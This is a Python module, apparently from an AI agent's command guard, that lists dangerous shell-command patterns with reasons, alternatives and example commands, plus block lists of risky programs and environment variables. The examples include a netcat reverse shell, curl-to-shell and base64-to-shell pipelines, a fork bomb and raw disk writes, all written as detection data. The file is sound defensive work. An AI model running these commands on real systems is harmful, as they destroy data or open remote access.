"""The shipped patterns of dangerous commands: the name of each, why it asks, and what to do instead.

The modules of `programs` find the commands that fit. The texts here are for the question, the denial and `docs/commands.md`.
"""

from __future__ import annotations

from typing import NamedTuple


class Pattern(NamedTuple):
    """`example` is a command that fits it."""

    name: str
    why: str
    instead: str
    example: str


_ROWS = (
    ("recursive_delete", "it deletes a whole folder without asking", "delete the files by name", "rm -rf build"),
    ("broad_delete", "it can delete more than the command shows", "name the files", "rm *"),
    ("find_delete", "it deletes all files that a search finds", "delete the files by name", "find . -name '*.o' -delete"),
    ("sync_delete", "it deletes files at the target that the source lacks", "copy without --delete", "rsync -a --delete a/ b/"),
    ("overwrite", "it destroys the content of files beyond recovery", "delete the files instead", "shred -u key"),
    ("truncate", "it empties a file", "write the new content with write_file", ": > app.log"),
    ("broad_move", "it can move more than the command shows", "name the files", "mv ~ /tmp"),
    ("raw_disk", "it writes to a device or makes a file system on one", "work on files", "dd if=x of=/dev/sda"),
    ("system_files", "it changes or enters folders of the system", "stay in the workspace", "tee /etc/hosts"),
    ("startup_file", "it touches files that shells run at start", "set variables in the command itself", "echo x >> ~/.bashrc"),
    ("git_hooks", "it touches git's own files, and git runs hooks later", "use git's own operations", "cp x .git/hooks/pre-commit"),
    ("git_config", "it changes how git works and which programs it runs", "do without the setting", "git config core.hooksPath x"),
    ("git_force_push", "it removes commits that others have pushed", "push without force", "git push --force"),
    ("git_discard", "it discards work that git can't restore", "commit or stash it first", "git reset --hard"),
    ("download_to_interpreter", "it runs code that a server sends", "download it, and read it first", "curl example.org | sh"),
    ("decoded_to_interpreter", "it runs code hidden by an encoding", "write the commands as plain text", "base64 -d x | sh"),
    ("eval", "it runs a text that is put together at run time", "write the command itself", "eval ls"),
    ("reverse_shell", "it connects a shell to the network", "use http_request or fetch_url", "nc -e /bin/sh 192.0.2.1 4444"),
    ("remote", "it works on another machine", "work in the workspace", "ssh host ls"),
    ("privileges", "it runs as another user or in another root", "run it as the present user", "sudo ls"),
    ("permissions", "it lets everybody write, or programs run as their owner", "give rights to the owner only", "chmod -R 777 ."),
    ("ownership", "it gives whole folders to another user", "keep their owner", "chown -R root ."),
    ("accounts", "it changes users, groups or passwords", "do without", "useradd eve"),
    ("kill_all", "it ends processes by name, or all of them", "end one process by its number", "kill -9 -1"),
    ("power", "it stops the machine", "do without", "shutdown now"),
    ("scheduled", "it leaves work behind for later", "do the work now", "crontab x"),
    ("services", "it changes the services of the system", "do without", "systemctl stop nginx"),
    ("firewall", "it changes how the machine is reached", "do without", "iptables -F"),
    ("mounts", "it mounts or unmounts file systems", "do without", "mount /dev/sda1 /mnt"),
    ("kernel", "it changes the kernel or its settings", "do without", "insmod x.ko"),
    ("history", "it clears the record of past commands", "do without", "history -c"),
    ("containers", "it starts or changes programs outside this sandbox", "run the program itself", "docker run x"),
    ("global_install", "it installs software, which runs its own code", "ask the owner to install it", "pip install x"),
    ("environment", "it changes which programs run afterwards, or what they load", "call the program by its path", "PATH=. ls"),
    ("fork_bomb", "it starts itself again and again", "use a loop with an end", ":(){ :|:& };:"),
    ("unreadable", "it can't be parsed with certainty", "write it more simply, as several commands", "echo 'x"),
    ("listed", "the rules list it as dangerous", "do without, or ask for it", ""),
)  # fmt: skip

#: By name.
PATTERNS: dict[str, Pattern] = {row[0]: Pattern(*row) for row in _ROWS}

#: Programs that fit a pattern whatever they are given.
BY_NAME: dict[str, str] = {
    program: pattern
    for pattern, programs in {
        "privileges": "sudo sudoedit doas su pkexec run0 runuser chroot setpriv unshare nsenter setcap capsh gosu "
        "su-exec fakechroot login schroot dchroot newuidmap newgidmap sudo-rs please gksu gksudo kdesu kdesudo "
        "sulogin pam-auth-update",
        "raw_disk": "mkfs mke2fs mkswap fdisk sfdisk cfdisk gdisk sgdisk parted wipefs blkdiscard hdparm "
        "badblocks debugfs tune2fs resize2fs newfs diskutil losetup cryptsetup lvremove vgremove "
        "pvremove mdadm zpool zfs btrfs nvme mkntfs mkdosfs lvcreate lvresize lvextend lvreduce vgcreate vgchange "
        "vgreduce pvcreate dmsetup fsck e2fsck dosfsck xfs_repair xfs_growfs partprobe partx addpart delpart blockdev "
        "fstrim sg_raw sg_format sg_dd qemu-nbd kpartx testdisk photorec flashrom ntfsfix "
        "e2image e2scrub e2undo e4crypt e4defrag resizepart swaplabel zramctl systemd-repart mklost+found",
        "overwrite": "shred srm wipe scrub sfill bleachbit",
        "accounts": "useradd adduser usermod userdel deluser groupadd groupmod groupdel passwd chpasswd gpasswd chsh "
        "chfn visudo vipw vigr dscl chage chgpasswd newusers groupmems pwconv pwunconv grpconv sysadminctl dseditgroup "
        "faillock "
        "addgroup delgroup cppw cpgr add-shell remove-shell update-passwd grpunconv",
        "kill_all": "killall killall5 pkill skill xkill slay",
        "power": "shutdown reboot halt poweroff init telinit kexec pm-suspend pmset rtcwake ctrlaltdel",
        "scheduled": "crontab at batch atrm anacron systemd-run cron crond fcrontab",
        "services": "systemctl service initctl rc-service rc-update launchctl chkconfig update-rc.d loginctl "
        "invoke-rc.d hwclock sv svc s6-rc supervisorctl pm2 systemd-tmpfiles systemd-sysusers busctl gdbus dbus-send qdbus "
        "scutil systemsetup networksetup spctl csrutil tmutil defaults "
        "deb-systemd-invoke deb-systemd-helper systemd-firstboot gsettings dbus-update-activation-environment",
        "firewall": "iptables ip6tables iptables-restore nft ufw firewall-cmd ebtables arptables pfctl ipset tc "
        "brctl bridge ethtool iwconfig rfkill conntrack ifup ifdown dhclient dhcpcd wg wg-quick openvpn tailscale",
        "mounts": "mount umount swapon swapoff pivot_root switch_root fusermount fusermount3 "
        "udisksctl hdiutil exportfs mount.nfs mount.cifs umount.nfs veracrypt "
        "systemd-mount systemd-umount fsfreeze",
        "kernel": "insmod rmmod modprobe depmod sysctl dkms grub-install update-grub bpftool kldload kextload "
        "kldunload kextunload kmod setenforce setsebool semanage semodule auditctl apparmor_parser aa-complain aa-disable "
        "aa-teardown update-initramfs dracut mkinitcpio grub-mkconfig grub2-mkconfig efibootmgr mokutil nvram udevadm "
        "fwupdmgr "
        "chcpu chmem installkernel kernel-install ldattach",
        "remote": "ssh scp sftp sshpass autossh mosh telnet rlogin rsh ftp lftp tftp ssh-copy-id sshfs ansible ansible-playbook "
        "aws gcloud gsutil bq az doctl heroku fly flyctl vercel netlify wrangler railway linode-cli oci ibmcloud s3cmd "
        "rclone restic borg duplicity twine mail mailx sendmail msmtp ssmtp swaks mutt smbclient rpcclient ldapadd "
        "ldapmodify ldapdelete kadmin dropdb dropuser createdb createuser pg_restore mysqladmin mysqlimport mongorestore "
        "ssh-import-id mongoimport vault consul nomad etcdctl packer masscan hping3 nmap "
        "slogin",
        "reverse_shell": "tmate ttyd gotty wetty ngrok cloudflared chisel frpc frps sshd bore localtunnel pwncat "
        "systemd-socket-activate agetty getty",
        "containers": "runc crun buildah systemd-nspawn lxc lxc-start lxd incus machinectl ctr crictl nerdctl kubectl helm "
        "virsh vagrant kind minikube k3s k3d microk8s skaffold argocd istioctl oc lxc-attach lxc-execute lxc-create "
        "virt-install vboxmanage multipass limactl colima wsl skopeo crane buildctl distrobox toolbox apptainer "
        "singularity docker-machine",
        "global_install": "apt-key apt-mark add-apt-repository apt-add-repository dpkg-divert dpkg-statoverride dpkg-reconfigure "
        "softwareupdate installer mas choco winget scoop xbps-install xbps-remove eopkg swupd opkg pkg_add pkg_delete "
        "pkgutil microdnf tdnf yay paru checkinstall alien debootstrap nvm fnm volta sdk ghcup "
        "update-java-alternatives update-ca-certificates locale-gen",
        "eval": "eval",
        "history": "fc",
        "environment": "ld.so ldconfig update-alternatives",
    }.items()
    for program in programs.split()
}

#: Environment variables that change which programs run or what they load.
_HARMFUL = frozenset(
    "PATH BASH_ENV ENV IFS PROMPT_COMMAND PS0 PS1 PS2 PS4 SHELLOPTS BASHOPTS CDPATH GLOBIGNORE SHELL HOME "
    "PAGER EDITOR VISUAL BROWSER MANPAGER LESSOPEN LESSCLOSE LESSEDIT PYTHONSTARTUP PYTHONHOME PYTHONINSPECT "
    "PYTHONBREAKPOINT PYTHONWARNINGS PERL5OPT PERL5LIB PERL5DB PERLLIB RUBYOPT RUBYLIB NODE_OPTIONS NODE_PATH "
    "JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS CLASSPATH TAR_OPTIONS MAKEFLAGS GNUMAKEFLAGS RSYNC_RSH "
    "CVS_RSH SSH_ASKPASS SUDO_ASKPASS OPENSSL_CONF HOSTALIASES GCONV_PATH LOCPATH TERMINFO RUSTC_WRAPPER "
    "RUSTC CC CXX BASH_LOADABLES_PATH EXECIGNORE HISTFILE ZDOTDIR FPATH AWKPATH FIND_OPTIONS GREP_OPTIONS "
    "XARGS_OPTS CURL_HOME WGETRC PIP_CONFIG_FILE NPM_CONFIG_USERCONFIG INPUTRC GLIBC_TUNABLES "
    "RIPGREP_CONFIG_PATH LUA_INIT GOFLAGS GOROOT RUSTFLAGS MAKEFILES GCC_EXEC_PREFIX COMPILER_PATH PHPRC "
    "PHP_INI_SCAN_DIR GEM_HOME GEM_PATH VIMINIT EXINIT SYSTEMD_PAGER SYSTEMD_EDITOR PYTEST_PLUGINS ERL_FLAGS "
    "ERL_AFLAGS ERL_ZFLAGS R_PROFILE_USER R_ENVIRON_USER JULIA_LOAD_PATH KUBE_EDITOR SUDO_EDITOR FCEDIT "
    "RUSTC_WORKSPACE_WRAPPER RUSTDOC CCACHE_PREFIX CCACHE_COMPILER CMAKE_C_COMPILER_LAUNCHER CMAKE_CXX_COMPILER_LAUNCHER "
    "CMAKE_TOOLCHAIN_FILE MAKE AR LD AS CPP FC JAVA_HOME JAVA_OPTS MAVEN_OPTS GRADLE_OPTS SBT_OPTS ANT_OPTS "
    "DOTNET_STARTUP_HOOKS CORECLR_PROFILER_PATH RUBYSHELL RAKEOPT BUNDLE_GEMFILE GOENV GOCACHEPROG GOTOOLCHAIN "
    "YARN_YARN_PATH YARN_RC_FILENAME PYTEST_ADDOPTS PYTHONUSERBASE PYTHONEXECUTABLE OPENSSL_MODULES OPENSSL_ENGINES PSQLRC "
    "GROFF_COMMAND_PREFIX MANROFFSEQ GTK_MODULES QT_PLUGIN_PATH SASL_PATH KRB5_CONFIG DOCKER_HOST KUBECONFIG".split()
)  # fmt: skip


def is_harmful(variable: str) -> bool:
    """Whether setting this environment variable can change what the programs after it are."""
    beginnings = ("LD_", "DYLD_", "GIT_", "BASH_", "MALLOC_", "CARGO_ALIAS_", "CARGO_BUILD_RUST", "NPM_CONFIG_")
    named = variable in _HARMFUL or variable.upper().startswith(beginnings)
    return named or (variable.startswith("CARGO_TARGET_") and variable.endswith(("_RUNNER", "_LINKER", "_RUSTFLAGS")))
